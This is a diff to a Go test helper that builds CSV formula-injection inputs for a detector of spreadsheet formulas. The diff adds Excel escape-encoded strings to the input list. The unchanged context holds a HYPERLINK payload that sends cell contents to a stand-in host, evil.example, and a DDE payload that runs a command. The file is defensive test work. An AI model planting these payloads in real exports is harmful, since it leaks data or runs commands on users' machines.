@@ -27,7 +27,7 @@ import (
 	"hearth/internal/platform/store"
 )
 
-// formulas are texts that begin with every sign a spreadsheet takes for a formula, bare and behind what some of them leave out.
+// formulas are texts that begin with every sign a spreadsheet takes for a formula, bare and behind what some of them leave out, and texts that their formats read as others.
 func formulas() []string {
 	var all []string
 	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "−"} {
@@ -36,7 +36,7 @@ func formulas() []string {
 		}
 		all = append(all, sign, sign+"HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", sign+"cmd|' /C calc'!A0")
 	}
-	return append(all, "\t=1", "\r=1", "\n=1", "'", "''", "'a", "it's = 1", ";", ";;=1", "\"", "\"\"", "a\",=1", "a,\"=1\"")
+	return append(all, "_x0041_", "_x005F_x003D_1", "_x0041", "\t=1", "\r=1", "\n=1", "'", "''", "'a", "it's = 1", ";", ";;=1", "\"", "\"\"", "a\",=1", "a,\"=1\"")
 }
 
 // formulaOf reports the part of a cell of a CSV file that a spreadsheet of some country could take for a formula: it looks at each place where a cell may begin, behind what is
